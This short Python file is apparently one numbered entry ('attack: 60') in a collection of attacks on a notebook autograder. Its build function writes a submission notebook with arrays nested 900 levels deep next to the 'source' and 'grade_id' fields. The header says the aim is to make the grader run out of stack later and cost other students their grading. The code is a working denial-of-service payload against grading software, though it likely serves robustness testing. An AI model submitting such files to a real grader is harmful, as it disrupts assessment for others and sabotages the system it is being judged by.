# attack: 60
# title: JSON nested just deep enough to be read, but not to be copied or written
# success: the grader runs out of stack later
# kind: submission
# status: either
# unshown: costs others their grading instead of forging
import json


def build(folder, notebook):
    deep = "[" * 900 + "]" * 900
    text = json.dumps(notebook)[:-1] + f', "deep": {deep}}}'
    text = text.replace('"source":', f'"attachments": {deep}, "source":', 3)
    text = text.replace('"grade_id":', f'"deep": {deep}, "grade_id":', 3)
    (folder / "a07_backpropagation.ipynb").write_text(text)
